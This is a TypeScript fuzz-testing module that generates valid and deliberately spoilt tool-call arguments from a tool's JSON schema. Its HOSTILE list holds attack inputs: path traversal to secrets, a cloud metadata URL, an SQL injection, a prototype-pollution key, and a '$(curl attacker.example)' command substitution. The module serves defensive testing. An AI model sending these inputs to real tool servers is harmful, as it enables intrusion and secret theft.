// Arguments for a tool as a careless or hostile client might send them: near what its schema asks, and spoilt in one place or many.
import fc from 'fast-check'
import type { Json } from '#incident/tool-call.ts'

/** A tool's input as `tools/list` shows it, as far as it is read here. */
export type Schema = {
  type?: string
  enum?: Json[]
  const?: Json
  anyOf?: Schema[]
  properties?: Record<string, Schema>
  required?: string[]
  items?: Schema
  minimum?: number
  maximum?: number
  pattern?: string
  maxLength?: number
  $ref?: string
}
export type Arguments = Record<string, Json>

/** Words that mean something there, by the key they were found under: `id` -> INC-1 ... */
export type Words = ReadonlyMap<string, readonly string[]>

/** Of ten, six fit the types of the schema, three have arguments spoilt or added, and one is anything. */
export function argumentsFor(schema: Schema, words: Words): fc.Arbitrary<Arguments> {
  const fitting = objectOf(schema, words, 2)
  const key = fc.oneof(fc.constantFrom(...keysOf(schema)), ANY_KEY)
  const spoilt = fc.tuple(fitting, fc.dictionary(key, ANYTHING, KEYS)).map(([fits, others]) => ({ ...fits, ...others }))
  return fc.oneof(
    { arbitrary: fitting, weight: 6 },
    { arbitrary: spoilt, weight: 3 },
    { arbitrary: fc.dictionary(ANY_KEY, ANYTHING, KEYS), weight: 1 },
  )
}

/** The strings within an answer, by their keys, at most ten a key. */
export function wordsIn(answers: readonly Json[]): Words {
  const words = new Map<string, string[]>()
  const take = (value: Json, key: string): void => {
    if (typeof value === 'string' && value.length <= 200) {
      const known = words.get(key) ?? []
      if (known.length < 10 && !known.includes(value)) words.set(key, [...known, value])
    } else if (Array.isArray(value)) for (const each of value) take(each, key)
    else if (value !== null && typeof value === 'object') {
      for (const [name, each] of Object.entries(value)) take(each, wordOf(name))
    }
  }
  for (const answer of answers) take(answer, '')
  return words
}

/** dashboard_id -> id; logGroups -> group */
function wordOf(key: string): string {
  const last = key.split(/_|(?<=[a-z])(?=[A-Z])/).at(-1) ?? ''
  return last.toLowerCase().replace(/^uid$/, 'id').replace(/s$/, '')
}

const KEYS = { minKeys: 1, maxKeys: 3 }
const ANY_KEY = fc.oneof(
  fc.string({ maxLength: 12 }),
  fc.constantFrom('__proto__', 'constructor', 'toString', 'dry_run'),
)

/** What has got through elsewhere: paths, flags, templates, markup, numbers at the edge, text of many kinds of length. */
const HOSTILE: readonly Json[] = [
  '../../api/v1/secrets',
  '..%2f..%2fsecrets',
  '--server=http://attacker.example',
  'http://169.254.169.254/latest/meta-data',
  '$(curl attacker.example)',
  '{{constructor}}',
  "' or 1=1 --",
  'a\u0000b',
  '\u202Eevil',
  '<!channel>',
  'A'.repeat(5000),
  '(a+)+$',
  '',
  ' ',
  '-1',
  -1,
  0,
  1e308,
  0.1,
  Number.MAX_SAFE_INTEGER,
  null,
  true,
  [],
  {},
  [[[[]]]],
]

const ANYTHING: fc.Arbitrary<Json> = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.integer(),
  fc.jsonValue().map(value => value as Json),
)

/** What is optional comes along one time in four: each argument more is one more that may not fit. */
function objectOf({ properties = {}, required = [] }: Schema, words: Words, depth: number): fc.Arbitrary<Arguments> {
  const fields = Object.entries(properties).map(([key, value]) => {
    const given = valueOf(value, wordOf(key), words, depth)
    return [key, required.includes(key) ? given : oneInFour(given)] as const
  })
  return fc
    .record(Object.fromEntries(fields))
    .map(record =>
      Object.fromEntries(Object.entries(record).flatMap(([key, value]) => (value === undefined ? [] : [[key, value]]))),
    )
}

function oneInFour(given: fc.Arbitrary<Json>): fc.Arbitrary<Json | undefined> {
  return fc.oneof({ arbitrary: given, weight: 1 }, { arbitrary: fc.constant(undefined), weight: 3 })
}

function valueOf(schema: Schema, word: string, words: Words, depth: number): fc.Arbitrary<Json> {
  if (depth === 0 || schema.$ref !== undefined) return ANYTHING
  if (schema.const !== undefined) return fc.constant(schema.const)
  if (schema.enum) return fc.constantFrom(...schema.enum)
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map(each => valueOf(each, word, words, depth)))
  switch (schema.type) {
    case 'object':
      return objectOf(schema, words, depth - 1)
    case 'array':
      return fc.array(valueOf(schema.items ?? {}, word, words, depth), { minLength: 1, maxLength: 3 })
    case 'boolean':
      return fc.boolean()
    case 'integer':
    case 'number':
      return fc.integer({ min: Math.max(schema.minimum ?? 0, -10), max: Math.min(schema.maximum ?? 100, 1e6) })
    case 'string':
      return stringOf(schema, words.get(word) ?? [], [...words.values()].flat())
    default:
      return ANYTHING
  }
}

/** First of the same name, then of the same shape, then a time. */
function stringOf({ pattern, maxLength = Infinity }: Schema, named: readonly string[], all: readonly string[]) {
  const shape = pattern === undefined ? /^/ : new RegExp(pattern, 'u')
  const fits = (value: string): boolean => value.length <= maxLength && shape.test(value)
  const same = named.filter(fits)
  const others = [...all, ...TIMES].filter(fits)
  return fc.constantFrom(...(same.length > 0 ? same : others.length > 0 ? others : all))
}

const TIMES = ['now-15m', '5m', '2026-11-20T10:00:00Z']

function keysOf(schema: Schema): string[] {
  return [...Object.keys(schema.properties ?? {}), 'extra']
}
